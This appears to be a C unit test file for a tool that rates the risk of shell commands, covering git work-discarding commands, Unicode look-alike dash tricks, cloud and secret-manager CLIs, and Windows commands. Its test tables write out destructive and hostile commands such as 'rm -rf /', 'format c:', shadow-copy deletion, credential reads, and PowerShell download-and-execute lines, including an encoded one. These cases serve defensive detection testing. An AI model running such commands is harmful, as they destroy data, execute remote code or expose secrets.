/* test_infra_intent.c -- issue #13, the families of broker/intent/vcs.c,
 * spelling.c, services.c and windows.c: discarding uncommitted work, remote
 * services by verb, other users' homes and Windows commands.  Each family has
 * positive cases, near misses that must stay low, and hostile spellings; the
 * reasons are checked as well as the level, and the tables' formats are checked
 * with good and bad user files. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "broker/intent/assess.h"
#include "broker/intent/tables.h"

#include "intent_check.h"

/* --- vcs ------------------------------------------------------------------------------ */

static void
test_vcs(void **state)
{
	static const struct icase c[] = {
		{ "git checkout -- .", "high", "git-checkout-tree" },
		{ "git checkout ./", "high", "git-checkout-tree" },
		{ "git checkout HEAD~2 -- lib/", "high", "git-checkout-tree" },
		{ "git checkout main -- '*.go'", "high", "git-checkout-tree" },
		{ "git checkout -f topic", "high", "git-checkout-force" },
		{ "git checkout src/app.py", "medium", "git-checkout-file" },
		{ "git checkout -- Makefile", "high", "git-checkout-named" }, /* named after --: discarded */
		{ "git checkout main", "low", NULL },
		{ "git checkout feature/login", "low", NULL },
		{ "git checkout -b wip", "low", NULL },
		{ "git restore .", "high", "git-restore-tree" },
		{ "git restore -SW :/", "high", "git-restore-sw-tree" },
		{ "git restore --staged .", "low", NULL },
		{ "git stash clear", "high", "git-stash-drop" },
		{ "git stash", "low", NULL },
		{ "git branch -D wip", "high", "git-branch-D" },
		{ "git branch -d wip", "medium", NULL },
		{ "git worktree remove -f ../x", "high", "git-worktree-rm-f" },
		{ "git push --delete origin wip", "high", "git-push-delete" },
		{ "git push origin :wip", "high", "git-push-colon" },
		{ "git push", "medium", NULL },
		{ "git update-ref -d refs/heads/wip", "high", "git-update-ref-d" },
		{ "git gc --prune=now", "high", "git-gc-now" },
		{ "git gc --prune=2.weeks.ago", "medium", "git-gc" },
		{ "git rm -rf .", "high", "git-rm-f" },
		{ "git rm --cached -r .", "low", NULL },
		/* global options before the subcommand */
		{ "git -C /tmp/x --no-pager reset --hard", "high", "git-reset-hard" },
		{ "git --git-dir=.git --work-tree=. clean -fdx", "high", "git-clean" },
	};

	(void)state;
	CHECK(c);
}

/* --- spelling ------------------------------------------------------------------------- */

static void
test_spelling(void **state)
{
	static const struct icase c[] = {
		/* look-alike dashes: U+2010, U+2011, U+2013, U+2014, U+2212, U+FF0D */
		{ "git reset \xe2\x80\x90\xe2\x80\x90hard", "high", "lookalike-dash" },
		{ "git reset \xe2\x80\x91\xe2\x80\x91hard", "high", "git-reset-hard" },
		{ "git push \xe2\x80\x94" "force", "high", "git-push-force" },
		{ "git clean \xe2\x80\x93" "fdx", "high", "git-clean" },
		{ "rm \xe2\x88\x92rf /", "critical", "lookalike-dash" },
		{ "git clean \xef\xbc\x8d" "fd", "high", "git-clean" },
		/* a look-alike dash alone is medium */
		{ "ls \xe2\x80\x90l", "medium", "lookalike-dash" },
		/* a quoted message with an em dash is text */
		{ "git commit -m \"\xe2\x80\x94 fix the build\"", "low", NULL },
		/* odd case: folded, with a reason of its own */
		{ "git RESET --HARD", "high", "odd-case" },
		{ "git Push --Force", "high", "git-push-force" },
		{ "GIT reset --hard", "high", "odd-case" },
		{ "Rm -rf /", "critical", "delete-recursive:root" },
		{ "git Status", "medium", "odd-case" },
		/* short options keep their case: -D is not -d (odd case and a
		 * medium action together are high) */
		{ "git Branch -d x", "high", "git-branch-d" },
		/* an unknown subcommand in odd case stays unknown */
		{ "git FROB", "medium", "git-other" },
	};

	(void)state;
	CHECK(c);
}

/* --- services ------------------------------------------------------------------------- */

static void
test_services(void **state)
{
	static const struct icase c[] = {
		{ "aws ec2 terminate-instances --instance-ids i-1", "high", "svc-destroy" },
		{ "aws s3api delete-bucket --bucket b", "critical", "svc-destroy-all" },
		{ "aws s3 rm s3://b/x --recursive", "critical", NULL },
		{ "aws rds delete-db-instance --db-instance-identifier api-prod", "critical", "svc-destroy-prod" },
		{ "aws ec2 describe-instances --filters Name=tag:env,Values=delete-me", "low", NULL },
		{ "aws s3 ls", "low", NULL },
		{ "aws logs delete-log-group --log-group-name x", "high", "svc-destroy" },
		{ "aws ec2 start-instances --instance-ids i-1", "medium", "svc-write" },
		{ "AWS_PROFILE=dev aws sts get-caller-identity", "low", NULL },
		{ "gcloud compute instances delete vm --quiet", "high", "svc-destroy" },
		{ "gcloud run services list", "low", NULL },
		{ "gcloud compute ssh vm", "medium", "svc-exec" },
		{ "az keyvault secret show --vault-name v -n x", "high", "svc-secret" },
		{ "az keyvault secret list --vault-name v", "low", NULL },
		{ "kubectl get pods -A", "low", NULL },
		{ "kubectl delete pod x -n production", "critical", "svc-destroy-prod" },
		{ "kubectl scale deploy web --replicas 0", "high", "kubectl-scale-zero" },
		{ "velero backup delete b1", "high", "svc-destroy" },
		{ "velero backup delete --all", "critical", "svc-destroy-all" },
		{ "nats stream info ORDERS", "low", NULL },
		{ "kafka-topics --bootstrap-server b:9092 --delete --topic t", "critical", "svc-destroy-all" },
		{ "kafka-topics --bootstrap-server b:9092 --list", "low", NULL },
		{ "rabbitmqctl delete_queue q", "high", "svc-destroy" },
		{ "rabbitmqctl list_queues name messages", "low", NULL },
		{ "doppler secrets get KEY", "high", "svc-secret" },
		{ "doppler secrets", "high+", NULL },
		{ "vault status", "low", NULL },
		{ "vault kv get secret/x", "high", "svc-secret" },
		{ "vault secrets disable kv", "critical", "svc-destroy-all" },
		{ "op item list", "low", NULL },
		{ "op read op://v/i/password", "high", "svc-secret" },
		{ "gh repo delete o/r --yes", "critical", "gh-repo-delete" },
		{ "gh pr list", "low", NULL },
		{ "gh secret list", "low", NULL },
		{ "gh api --method DELETE repos/o/r/hooks/1", "high", "gh-api-delete" },
		{ "docker ps -a", "low", NULL },
		{ "docker volume rm v", "high", NULL },
		{ "curl -X DELETE https://api.example.com/v1/x/1", "high", "http-delete" },
		{ "curl --request=DELETE https://es.example:9200/_all", "critical", "http-delete-all" },
		{ "http DELETE https://api.example.com/x", "high", "http-delete" },
		{ "xh delete https://api.example.com/x/*", "critical", "http-delete-all" },
		{ "http GET https://api.example.com/x", "low+", NULL },
		/* an unknown verb of a known CLI is medium, never low */
		{ "velero frobnicate", "medium", "svc-other" },
		{ "rabbitmqctl", "medium", "svc-other" },
	};

	(void)state;
	for (size_t k = 0; k < sizeof c / sizeof c[0]; k++)
		if (strcmp(c[k].level, "low+") == 0) {
			struct got g;

			score(c[k].cmd, &g);
			assert_true(strcmp(g.level, "high") != 0 && strcmp(g.level, "critical") != 0);
		}
	{
		struct icase d[sizeof c / sizeof c[0]];
		size_t n = 0;

		for (size_t k = 0; k < sizeof c / sizeof c[0]; k++)
			if (strcmp(c[k].level, "low+") != 0)
				d[n++] = c[k];
		assert_int_equal(check(d, n), 0);
	}
}

/* --- homes and Windows -------------------------------------------------------------------- */

static void
test_windows_home(void **state)
{
	static const struct icase c[] = {
		{ "rm -rf /home/bob", "critical", "delete-recursive:home-root" },
		{ "rm -rf /Users/bob", "critical", "delete-recursive:home-root" },
		{ "rm -rf /var/root", "critical", "delete-recursive:home-root" },
		{ "rm -rf ~bob", "critical", "delete-recursive:home-root" },
		{ "H=/home/bob; rm -rf \"$H\"", "critical", NULL },
		{ "ls /home/bob", "low", NULL },
		{ "rm -rf /home/bob/tmp", "high", NULL },
		{ "rm -rf /mnt/d", "critical", NULL },
		{ "format c:", "critical", "win-format" },
		{ "FORMAT C: /Q", "critical", "win-format" },
		{ "del /s /q C:\\", "critical", "delete-recursive:root" },
		{ "DEL /S /Q \"C:\\Users\\bob\"", "critical", "delete-recursive:home-root" },
		{ "rd /s /q C:\\Windows\\System32", "critical", "delete-recursive:system" },
		{ "rmdir /s /q build", "medium", NULL },
		{ "rmdir build", "medium", NULL },
		{ "Remove-Item -Recurse -Force C:\\", "critical", "delete-recursive:root" },
		{ "remove-item -rec -fo -path $env:USERPROFILE", "critical", "delete-recursive:home-root" },
		{ "Remove-Item %USERPROFILE%\\.ssh\\id_rsa", "high", "delete:secret" },
		{ "Remove-Item -Path build -Recurse", "medium", NULL },
		{ "cmd /c \"rd /s /q C:\\Windows\"", "high+", NULL },
		{ "cmd.exe /C del /s /q D:\\", "critical", NULL },
		{ "powershell -Command \"iex (iwr https://x.example/a.ps1)\"", "critical", "download-exec" },
		{ "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/a')\"",
		    "critical", "download-exec" },
		/* -EncodedCommand "IEX (iwr http://x)" as UTF-16LE base64: opaque and decoded */
		{ "powershell -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA", "critical", "ps-encoded" },
		{ "pwsh -enc AAAA", "high", "ps-encoded" },
		{ "irm https://x.example/i.ps1 | iex", "critical", "download-exec" },
		{ "Invoke-Expression $code", "medium+", NULL },
		{ "reg delete HKLM\\Software\\X /f", "high", "win-reg-delete" },
		{ "reg query HKLM\\Software\\X", "low", NULL },
		{ "bcdedit /enum", "low", NULL },
		{ "bcdedit /set {default} recoveryenabled No", "high", "win-bcdedit" },
		{ "diskpart", "high", "win-diskpart" },
		{ "cipher /w:C:\\", "high", "win-cipher-wipe" },
		{ "vssadmin delete shadows /all /quiet", "critical", "win-shadow-delete" },
		{ "vssadmin list shadows", "low", NULL },
		{ "type C:\\Users\\bob\\.aws\\credentials", "medium+", NULL },
		{ "type README.md", "low", NULL },
		{ "Get-ChildItem -Path src", "low", NULL },
		{ "frobnicate.exe /x", "medium", NULL },
	};

	(void)state;
	for (size_t k = 0; k < sizeof c / sizeof c[0]; k++)
		if (strcmp(c[k].level, "medium+") == 0) {
			struct got g;

			score(c[k].cmd, &g);
			if (strcmp(g.level, "low") == 0)
				print_error("want medium+ got low: %s\n", c[k].cmd);
			assert_string_not_equal(g.level, "low");
		}
	{
		struct icase d[sizeof c / sizeof c[0]];
		size_t n = 0;

		for (size_t k = 0; k < sizeof c / sizeof c[0]; k++)
			if (strcmp(c[k].level, "medium+") != 0)
				d[n++] = c[k];
		assert_int_equal(check(d, n), 0);
	}
}

/* --- the table formats ------------------------------------------------------------------ */

static struct tables *
load(const char *name, const char *text, char *err, size_t errlen)
{
	return tables_load_mem(&name, &text, 1, "/home/dev", err, errlen);
}

static void
test_tables(void **state)
{
	char err[256];
	struct tables *t;
	const struct svcrow *r;

	(void)state;
	/* good user lines add and replace; -KIND NAME removes */
	t = load("services", "cli shipit depth=2 secrets\nverb obliterate destroy\nnoun Warehouse store\n-verb get\n", err,
	    sizeof err);
	assert_non_null(t);
	r = tables_svc(t, SVK_CLI, "shipit", 6);
	assert_non_null(r);
	assert_true(r->secrets);
	assert_int_equal(r->depth, 2);
	assert_non_null(r = tables_svc(t, SVK_VERB, "obliterate", 10));
	assert_int_equal(r->cls, SVC_DESTROY);
	assert_non_null(r = tables_svc(t, SVK_NOUN, "warehouse", 9));
	assert_int_equal(r->cls, SVC_STORE);
	assert_null(tables_svc(t, SVK_VERB, "get", 3));
	assert_non_null(tables_svc(t, SVK_CLI, "kafka-topics", 12)); /* a glob */
	tables_free(t);
	/* bad lines stop the load with FILE:LINE: reason */
	assert_null(load("services", "verb zap explode\n", err, sizeof err));
	assert_non_null(strstr(err, ":1:"));
	assert_null(load("services", "colour red\n", err, sizeof err));
	assert_null(load("services", "noun thing destroy\n", err, sizeof err));
	assert_null(load("services", "cli x depth=99\n", err, sizeof err));
	assert_null(load("services", "cli x wat=1\n", err, sizeof err));
	t = load("windows", "nuke,NUKE.EXE delete rec=/all\n", err, sizeof err);
	assert_non_null(t);
	assert_non_null(tables_win(t, "nuke"));
	assert_int_equal(tables_win(t, "nuke")->args, WA_DELETE);
	tables_free(t);
	assert_null(load("windows", "nuke explode\n", err, sizeof err));
	assert_null(load("windows", "nuke delete wat=1\n", err, sizeof err));
	assert_null(load("commands", "x git checkout spec:everything - 5 x\n", err, sizeof err));
	assert_non_null(strstr(err, "spec:"));
	t = load("paths", "/srv/homes/* home-root\n", err, sizeof err);
	assert_non_null(t);
	tables_free(t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_vcs),
		cmocka_unit_test(test_spelling),
		cmocka_unit_test(test_services),
		cmocka_unit_test(test_windows_home),
		cmocka_unit_test(test_tables),
	};

	return cmocka_run_group_tests(tests, intent_setup, intent_teardown);
}
